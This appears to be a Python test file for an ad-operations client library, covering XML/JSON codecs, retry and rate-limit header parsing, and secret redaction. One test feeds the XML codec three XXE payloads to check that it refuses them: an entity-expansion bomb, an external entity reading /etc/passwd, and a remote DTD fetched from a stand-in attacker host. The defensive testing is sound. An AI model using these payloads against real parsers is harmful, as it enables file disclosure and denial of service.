"""Codecs and header parsing: small pure functions, tested directly."""

from __future__ import annotations

import email.utils

import httpx
import pytest

from adops_async.core.headers import parse_rate_limit, parse_retry_after
from adops_async.core.redact import Redactor, Secret
from adops_async.extend import JsonCodec, XmlCodec


def test_xml_round_trip_and_force_list() -> None:
    codec = XmlCodec(force_list=("campaign",))
    body = codec.encode({"collection": {"campaign": [{"@id": "1", "name": "A"}]}})
    assert codec.decode(body) == {"collection": {"campaign": [{"@id": "1", "name": "A"}]}}


@pytest.mark.parametrize(
    "bomb",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><x/>',
    ],
)
def test_xml_entities_are_refused(bomb: bytes) -> None:
    with pytest.raises(ValueError, match="entity"):
        XmlCodec().decode(bomb)


def test_malformed_bodies_say_why() -> None:
    with pytest.raises(ValueError, match="malformed XML"):
        XmlCodec().decode(b"<a><b></a>")
    with pytest.raises(ValueError, match="malformed JSON"):
        JsonCodec().decode(b'{"a": ')
    assert JsonCodec().decode(b"  ") is None


def test_retry_after_seconds_date_and_duplicates() -> None:
    served = 1_700_000_000
    date = email.utils.formatdate(served, usegmt=True)
    later = email.utils.formatdate(served + 30, usegmt=True)
    assert parse_retry_after(httpx.Headers({"Retry-After": "12"})) == 12
    assert parse_retry_after(httpx.Headers({"Retry-After": later, "Date": date})) == 30
    assert parse_retry_after(httpx.Headers([("Retry-After", "5"), ("Retry-After", "9")])) == 9
    assert parse_retry_after(httpx.Headers({"Retry-After": later}), wall_clock=lambda: served + 10) == 20
    assert parse_retry_after(httpx.Headers({"Retry-After": "soon"})) is None
    assert parse_retry_after(httpx.Headers({})) is None


def test_rate_limit_headers() -> None:
    state = parse_rate_limit(
        httpx.Headers(
            {"Organization-RateLimit-Limit": "60;w=60;b=60", "RateLimit-Remaining": "7", "RateLimit-Reset": "12"}
        )
    )
    assert state is not None
    assert (state.limit, state.window, state.burst, state.remaining, state.reset) == (60, 60.0, 60, 7, 12.0)
    assert parse_rate_limit(httpx.Headers({"Content-Type": "text/plain"})) is None
    odd = parse_rate_limit(httpx.Headers({"RateLimit-Remaining": "lots", "RateLimit-Policy": "x;w=y"}))
    assert odd is None  # nothing readable: ignored, not guessed


def test_redactor_masks_known_secrets_and_secret_looking_params() -> None:
    redactor = Redactor(["s3cr3t-token"])
    assert redactor.text("Bearer s3cr3t-token failed") == "Bearer *** failed"
    assert "abc123" not in redactor.url("https://u:abc123@x.test/p?api_key=abc123&page=2")
    assert "page=2" in redactor.url("https://x.test/p?api_key=abc123&page=2")
    assert redactor.text("see https://x.test/p?password=pw999&id=3") == "see https://x.test/p?password=***&id=3"
    assert "pw" not in repr(Secret("pw999"))
    assert Secret("pw999").reveal() == "pw999"
